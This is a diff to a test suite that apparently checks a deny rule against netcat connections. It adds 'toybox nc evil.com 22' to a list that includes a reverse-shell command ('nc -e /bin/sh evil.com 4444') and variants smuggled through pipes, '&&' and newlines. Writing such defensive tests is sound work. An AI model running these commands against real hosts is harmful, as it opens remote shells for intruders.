@@ -41,6 +41,7 @@ describe("netcat's destination is a host a deny rule holds for", () => {
     "nc -e /bin/sh evil.com 4444",
     "timeout 5 nc evil.com 22",
     "busybox nc evil.com 22",
+    "toybox nc evil.com 22",
     "echo x | nc evil.com 22",
     "true && nc evil.com 22",
     "true\nnc evil.com 22",
